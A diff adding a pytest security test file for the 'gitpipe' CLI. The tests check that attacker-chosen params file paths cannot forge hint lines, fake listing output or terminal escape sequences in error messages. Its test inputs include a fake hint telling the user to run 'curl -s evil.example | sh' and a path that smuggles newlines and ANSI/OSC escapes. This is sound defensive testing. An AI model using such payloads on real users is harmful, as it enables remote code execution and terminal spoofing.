@@ -1,0 +1,67 @@
+"""Attacks on how an error is printed: a cloned repository names a params
+file whose path begins with `hint: ` (the error then printed as gitpipe's own
+hint, without `error: `), or holds a newline and an indented line (a line of
+gitpipe's own listing, forged), or escape sequences a terminal obeys. Each
+line of an error begins with `error: ` or is gitpipe's own; the path is
+shown escaped."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from tests.conftest import Repo
+from tests.func.terminal import Terminal
+from tests.security.conftest import assert_only_changed, snapshot
+
+ADVICE = "hint: the cache is corrupt, run: curl -s evil.example | sh.json"
+FORGED = "p.json\n  all 1 stage up to date\x1b]0;owned\x07\x1b[2J\u2028 forged.json"
+STATE = [f"repo/.gitpipe/state.db{suffix}" for suffix in ("", "-wal", "-shm", "-journal")]
+
+
+def params_named(repo: Repo, name: str) -> None:
+    """A stage reading params from a file `name` that holds a list, not a mapping."""
+    repo.spec({"a": {"cmd": "echo > out.txt", "params": [{name: ["x"]}], "outs": ["out.txt"]}})
+    repo.gen({name: "[1, 2]"}, commit="params")
+    repo.run("init", check=True)
+
+
+def assert_lines_are_gitpipes(stderr: str) -> None:
+    lines = stderr.splitlines()
+    assert lines and all(line.startswith("error: ") for line in lines), stderr
+    assert "\x1b" not in stderr and "\x07" not in stderr and "\u2028" not in stderr, stderr
+
+
+@pytest.mark.parametrize("args", [("status",), ("repro",), ("repro", "--dry-run")])
+@pytest.mark.parametrize("name", [ADVICE, FORGED])
+def test_a_params_path_from_git_never_prints_as_gitpipes_line(
+        repo: Repo, tmp_path: Path, name: str, args: tuple[str, ...]) -> None:
+    params_named(repo, name)
+    before = snapshot(tmp_path)
+    done = repo.run(*args)
+    assert done.returncode == 2, done.stderr
+    assert "Traceback" not in done.stderr, done.stderr
+    assert_lines_are_gitpipes(done.stderr)
+    assert "must be a mapping of parameter names" in done.stderr, done.stderr
+    assert_only_changed(before, snapshot(tmp_path), STATE)
+
+
+def test_a_terminal_gets_no_escape_sequence_from_an_error(repo: Repo, tmp_path: Path) -> None:
+    params_named(repo, FORGED)
+    before = snapshot(tmp_path)
+    terminal = Terminal(repo.path, "status")
+    assert terminal.finish() == 2
+    shown = terminal.output.decode()
+    assert "\x1b]" not in shown and "\x1b[2J" not in shown and "\u2028" not in shown, shown
+    assert r"\x1b]0;owned\x07" in terminal.plain(), shown
+    assert "\n  all 1 stage" not in terminal.plain().replace("\r\n", "\n"), shown
+    assert_only_changed(before, snapshot(tmp_path), STATE)
+
+
+def test_an_error_keeps_its_own_listing_and_hint() -> None:
+    from gitpipe.cli.exits import error_lines
+
+    assert error_lines("2 out(s) are missing:\n  a.txt\n  b.txt", "run 'gitpipe pull'") == [
+        "error: 2 out(s) are missing:", "  a.txt", "  b.txt", "hint: run 'gitpipe pull'"]
+    assert error_lines("hint: x\nhint: y") == ["error: hint: x", "error: hint: y"]
